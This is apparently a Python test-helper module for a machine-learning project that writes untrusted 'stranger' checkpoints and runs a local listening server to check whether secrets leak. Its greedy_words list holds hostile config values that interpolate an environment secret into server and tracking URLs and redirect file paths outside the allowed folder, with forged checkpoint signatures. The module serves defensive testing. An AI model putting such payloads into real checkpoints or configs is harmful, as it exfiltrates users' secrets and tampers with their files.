"""What a stranger might send: checkpoints whose settings reach for more, and who listens for it."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import torch
from program import SMALL

from mapo_lightning.config.compose import compose
from mapo_lightning.run import build
from mapo_lightning.run.config import RunConfig, conf_folder
from mapo_lightning.training.checkpoint import write_checkpoint

CANARY = "canary-6f1c0d"
"""A secret in the environment, which must turn up nowhere."""


class Sink:
    """A server that takes everything it can get: (path, headers and body) of each request."""

    def __init__(self, redirect: str = "") -> None:
        self.seen: list[tuple[str, str]] = []
        self.connections = 0
        sink = self

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                body = self.rfile.read(int(self.headers.get("content-length") or 0))
                sink.seen.append((self.path, f"{self.headers}{body.decode(errors='replace')}"))
                self.send_response(307 if redirect else 404)
                if redirect:
                    self.send_header("location", f"{redirect}{self.path}")
                self.send_header("content-length", "0")
                self.end_headers()

            do_GET = do_PUT = do_POST  # noqa: N815

            def log_message(self, *_: object) -> None:
                pass

        class Server(ThreadingHTTPServer):
            def get_request(self) -> Any:
                sink.connections += 1
                return super().get_request()

        self.server = Server(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


@contextmanager
def listening(redirect: str = "") -> Iterator[Sink]:
    sink = Sink(redirect)
    try:
        yield sink
    finally:
        sink.server.shutdown()
        sink.server.server_close()


def greedy_words(sink: str, outside: Path) -> list[str]:
    """Settings that send frames and a secret to ``sink``, and read and write in ``outside``."""
    return [
        "vlm=openai_server", f"vlm.server.base_url={sink}/${{oc.env:MAPO_CANARY}}/v1",
        f"tracking.uri={sink}/${{oc.env:MAPO_CANARY}}", f"tracking.artifacts={outside}/artifacts",
        "tracking.enabled=true", f"run_dir={outside}/run", f"work_dir={outside}/work",
        f"vlm.store={outside}/store", f"vlm.reviews={outside}/reviews.json",
        f"data.root={outside}/videos", f"tracking.experiment={CANARY}",
    ]  # fmt: skip


def stranger_card(stage: str, config: str, **more: Any) -> dict[str, Any]:
    """Checkpoint metadata with a signature that is not the user's."""
    card = {"stage": stage, "method": "mapo", "config": config, "config_signature": "0" * 64}
    card |= {"mlflow_parent": "a" * 32, "mlflow_run": "b" * 32}
    return card | ({"action_dim": 2, "env_frames": 120} if stage == "finetune" else {}) | more


def write_agent(path: Path, *words: str, extra: str = "") -> Path:
    """Write a stranger's agent, and the settings of its run beside it; returns the checkpoint."""
    composed = compose([*SMALL, *words], RunConfig, conf_folder())
    torch.manual_seed(4)
    module, _ = build.build_finetune(composed.config, 2, None)
    card = stranger_card("finetune", composed.yaml + extra)
    write_checkpoint({"state_dict": module.state_dict(), "mapo": card, "global_step": 7}, path)
    (path.parents[1] / "config.yaml").write_text(composed.yaml + extra)
    return path
